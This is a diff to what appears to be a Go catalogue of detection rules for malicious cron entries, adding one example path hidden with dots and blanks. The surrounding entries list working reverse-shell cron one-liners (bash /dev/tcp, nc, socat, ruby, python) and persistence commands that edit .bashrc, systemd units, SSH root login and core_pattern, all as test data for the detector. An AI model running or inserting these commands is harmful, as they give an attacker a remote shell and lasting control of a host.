@@ -161,7 +161,7 @@ var catalogue = []SignInfo{
 		True:  []string{"* * * * * bash -i >& /dev/tcp/203.0.113.5/443 0>&1", "* * * * * nc -e /bin/sh 203.0.113.5 443", "* * * * * socat TCP:203.0.113.5:443 EXEC:/bin/sh", "* * * * * ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.5\",443);while(l=c.gets);IO.popen(l,\"r\"){|io|c.print io.read}end'", "* * * * * cat /opt/f | sh -i 2>&1 | nc 203.0.113.5 443 > /opt/f", "* * * * * python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",443));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"},
 		False: []string{"* * * * * nc -z db 5432", "* * * * * timeout 5 bash -c 'true' && nc -zv db 5432", "* * * * * socat - UNIX:/run/haproxy.sock"}},
 	{ID: "spelled-name", Title: "neighbouring words spell a name of dots and blanks", Severity: High, Attack: []string{"T1564.001", "T1036"},
-		True:  []string{"* * * * * sh . ../update", "* * * * * bash -x .. ./run"},
+		True:  []string{"* * * * * sh . ../update", "* * * * * bash -x .. ./run", "* * * * * /home/u/. ../update"},
 		False: []string{"* * * * * sh ../update", "* * * * * cp -r . ../backup", "* * * * * find . ../x -name y", "* * * * * . ../env"}},
 	{ID: "startup-edit", Title: "changes what is run at login or boot", Severity: Medium, Attack: []string{"T1546.004", "T1543.002", "T1037.004"},
 		True:  []string{"@reboot echo /opt/x >> ~/.bashrc", "@reboot cp /opt/x.service /etc/systemd/system/", "@daily sed -i 's/.*PermitRootLogin.*/PermitRootLogin yes/' /srv/jail/sshd_config", "@reboot echo '|/opt/x' > /proc/sys/kernel/core_pattern"},
